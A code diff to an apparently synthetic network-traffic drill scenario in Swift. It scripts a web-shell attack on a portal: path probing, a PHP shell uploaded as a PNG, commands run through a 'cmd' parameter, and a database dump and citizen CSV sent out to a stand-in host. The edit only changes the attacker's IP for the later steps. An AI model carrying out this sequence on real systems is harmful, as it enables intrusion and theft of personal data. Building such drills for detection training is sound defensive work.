@@ -13,7 +13,7 @@ extension Scenario {
         day.everyday(
             until: 870, pace: 22, seed: 56401,
             ["192.0.2.3", "203.0.113.141", "192.0.2.19", "203.0.113.142", "192.0.2.35"])
-        let attacker = "203.0.113.80"
+        let (attacker, again) = ("203.0.113.80", "203.0.113.81")
         day.talk(at: 60, attacker, portal, 80) { talk in
             for target in ["/quan-tri/", "/sao-luu/", "/uploads/", "/gop-y/"] {
                 talk.client(
@@ -26,7 +26,7 @@ extension Scenario {
         day.upload(
             at: 240, attacker, portal, "/gop-y/tai-len", host: service, "anh-hien-truong.php",
             type: "image/png", Array(source.utf8))
-        day.talk(at: 390, attacker, portal, 80) { talk in
+        day.talk(at: 390, again, portal, 80) { talk in
             let page = "/uploads/anh-hien-truong.php?cmd="
             talk.client(sends: Text.request("GET", page + "id%20-a", host: service))
             talk.server(sends: Text.response("<pre>uid=33(www-data) gid=33(www-data)\n</pre>"))
@@ -35,7 +35,7 @@ extension Scenario {
             talk.server(sends: Text.response("<pre>ho-so.sql\ncong-dan.csv\n</pre>"))
         }
         day.web(
-            at: 600, attacker, portal, asks: Text.request("GET", "/uploads/ho-so.sql", host: service),
+            at: 600, again, portal, asks: Text.request("GET", "/uploads/ho-so.sql", host: service),
             gets: Text.response(DrillFiles.dumps[0], type: "application/sql"))
         day.put(
             at: 780, portal, "203.0.113.110", "/thu-muc/cong-dan.csv", host: "luutru.example",
